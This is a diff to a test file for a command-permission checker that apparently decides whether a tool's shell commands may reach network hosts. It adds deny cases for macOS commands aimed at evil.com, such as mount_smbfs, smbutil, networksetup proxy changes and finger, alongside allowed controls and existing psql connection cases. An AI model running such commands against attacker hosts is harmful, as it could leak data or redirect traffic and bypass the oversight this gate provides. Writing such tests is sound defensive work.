@@ -219,6 +219,13 @@ describe('hosts a tool reaches are seen', () => {
     ['cvs -d :pserver:u@evil.com:/cvs co x', 'deny'], ['rcp f evil.com:x', 'deny'], ['mount -t nfs evil.com:/x /mnt', 'deny'],
     ['mount -t cifs //evil.com/s /mnt', 'deny'], ['mount_smbfs //u@evil.com/s /tmp/m', 'deny'], ['mount_nfs evil.com:/x /tmp/m', 'deny'],
     ['showmount -e evil.com', 'deny'], ['dig "$NAME"', 'ask'],
+    // macOS: mount_smbfs's -N takes no value; smbutil, networksetup's proxies, finger (hunt 3 F4, F9; were allowed).
+    ['mount_smbfs -N //evil.com/s /tmp/m', 'deny'], ['mount_smbfs -I evil.com //x/s /tmp/m', 'deny'], ['smbutil view //evil.com', 'deny'],
+    ['smbutil view -g //evil.com', 'deny'], ["smbutil login '//dom;u@evil.com'", 'deny'], ['smbutil lookup evil.com', 'deny'], ['smbutil status evil.com', 'deny'],
+    ['networksetup -setwebproxy Wi-Fi evil.com 8080', 'deny'], ['networksetup -setsocksfirewallproxy Wi-Fi evil.com 1080', 'deny'],
+    ['finger x@evil.com', 'deny'], ['finger @evil.com', 'deny'], ['finger -l x@good.example@evil.com', 'deny'],
+    ['mount_smbfs -N //good.example/s /tmp/m', 'allow'], ['smbutil statshares -a', 'allow'], ['networksetup -setwebproxy Wi-Fi good.example 8080', 'allow'],
+    ['networksetup -getinfo Wi-Fi', 'allow'], ['finger bob', 'allow'],
     // psql's \c and mysql's connect reach another server; more libpq and redis/mysql clients (were allowed).
     [`psql -c '\\c db u evil.com'`, 'deny'], [`psql -c '\\connect postgres://evil.com/db'`, 'deny'], [`psql -c '\\c "host=evil.com"'`, 'deny'],
     [`psql <<< '\\c db u evil.com'`, 'deny'], [`psql -c '\\c db u :h'`, 'ask'], [`psql -c '\\c otherdb'`, 'allow'], [`psql -c '\\c - - localhost'`, 'allow'],
